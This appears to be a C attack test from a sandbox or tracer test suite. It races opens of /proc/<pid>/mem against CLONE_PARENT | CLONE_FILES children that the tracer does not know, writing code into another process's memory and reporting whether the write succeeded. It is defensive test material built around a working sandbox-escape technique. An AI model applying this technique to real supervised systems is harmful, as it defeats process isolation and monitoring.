/*
 * Attack: a child made with CLONE_PARENT by a process whose parent is gone
 * names a parent the tracer does not know, and is let go the moment its
 * first stop is seen, even while the descriptor table it shares is held
 * for another task's open.
 *
 * Main forks W (the target: it spins until its tw_patch_target holds
 * TW_CODE, then calls it), and makes P (clone CLONE_FILES), which makes C
 * (clone CLONE_FILES) and exits: C's parent is now the namespace's reaper.
 * C makes, in a loop, children N with clone(CLONE_PARENT | CLONE_FILES):
 * each shares main's table and names the reaper as its parent. Each N
 * spins a while on the descriptor number main's open gets and, once it
 * names a mem file, pwrites TW_CODE over W's tw_patch_target through it.
 * Main opens /proc/<W>/mem O_RDWR in a loop (RAN parent_clone_call, in W).
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>

#include "common.h"

TW_DEFINE_PATCH_TARGET;

static volatile int *shared; /* [0]: done, [1]: written */

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void writer(int fd)
{
	double end = now() + 0.05;

	while (now() < end && !shared[0])
		if (tw_names_mem(getpid(), fd)) {
			if (pwrite(fd, TW_CODE, sizeof(TW_CODE), (off_t)(uintptr_t)tw_patch_target) ==
			    (ssize_t)sizeof(TW_CODE))
				shared[1] = 1;
			break;
		}
	_exit(0);
}

int main(int argc, char **argv)
{
	char path[64];
	pid_t target, maker;
	int fd, tries = 0, opened = 0;
	double end;

	(void)argc;
	(void)argv;
	tw_init();
	shared = mmap(NULL, 4096, TW_RW, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (shared == MAP_FAILED)
		return 2;
	target = fork();
	if (target == 0) {
		double stop = now() + 8;

		while (now() < stop && !shared[0])
			if (memcmp((const void *)(uintptr_t)tw_patch_target, TW_CODE, sizeof(TW_CODE)) == 0) {
				tw_run("parent_clone_call", (const void *)tw_patch_target);
				break;
			}
		_exit(0);
	}
	fd = dup(0);
	close(fd); /* the lowest free descriptor: the open's */
	maker = (pid_t)syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0);
	if (maker == 0) {
		pid_t made_by = getpid();

		if (syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0) == 0) {
			/* C: its parent (P) exits at once. */
			while (getppid() == made_by && !shared[0])
				;
			while (!shared[0]) {
				pid_t child = (pid_t)syscall(SYS_clone, CLONE_PARENT | CLONE_FILES | SIGCHLD, 0, 0, 0, 0);

				if (child == 0)
					writer(fd);
				usleep(2000);
			}
			_exit(0);
		}
		_exit(0);
	}
	tw_wait_child("maker", maker);
	usleep(100000);
	snprintf(path, sizeof(path), "/proc/%d/mem", (int)target);
	end = now() + 5;
	while (now() < end && !shared[1]) {
		int got = open(path, O_RDWR);

		tries++;
		if (got >= 0) {
			opened++;
			usleep(200);
			close(got);
		}
		usleep(1000);
	}
	tw_emit("COUNT %d", shared[1]);
	fprintf(stderr, "opens: %d tries, %d opened\n", tries, opened);
	usleep(300000);
	shared[0] = 1;
	tw_wait_child("target", target);
	return tw_done();
}
